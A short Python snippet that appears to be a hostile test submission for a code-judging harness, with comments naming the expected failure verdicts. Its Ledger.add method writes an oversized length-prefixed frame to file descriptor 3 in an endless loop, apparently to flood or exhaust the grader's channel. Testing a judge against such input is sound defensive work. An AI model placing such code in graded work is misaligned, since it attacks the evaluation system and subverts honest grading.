# verdict: time limit exceeded | output limit exceeded | wrong answer | run-time error
# why: fractions of a quarter million bits
import os, struct
digits = b"f" * 65_000
body = b'["ok",[' + (b'{"F":["' + digits + b'","' + digits[:-1] + b'1"]},') * 30 + b"0]]"
frame = memoryview(struct.pack("!I", len(body)) + body)
class Ledger:
    def add(self, a, b):
        while True:
            left = frame
            while left: left = left[os.write(3, left):]
